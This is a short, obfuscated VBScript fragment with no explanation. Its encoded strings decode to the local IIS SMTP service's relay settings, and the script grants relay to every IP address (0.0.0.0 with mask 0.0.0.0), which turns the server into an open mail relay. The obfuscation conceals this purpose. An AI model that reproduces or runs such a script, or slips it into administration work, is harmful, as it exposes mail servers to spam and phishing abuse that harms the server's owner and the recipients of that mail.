path = Chr(73) & Chr(73) & Chr(83) & "://" & "local" & "host/" & StrReverse("1/cvsptms")
Set smtp = GetObject(path)
Set list = smtp.Get(Replace("Relay#List", "#", "Ip"))
list.IPGrant = Array(Join(Array("0", "0", "0", "0"), ".") & "," & Mid("xx0.0.0.0", 3))
list.GrantByDefault = False
smtp.Put "Relay" & "IpList", list
smtp.SetInfo
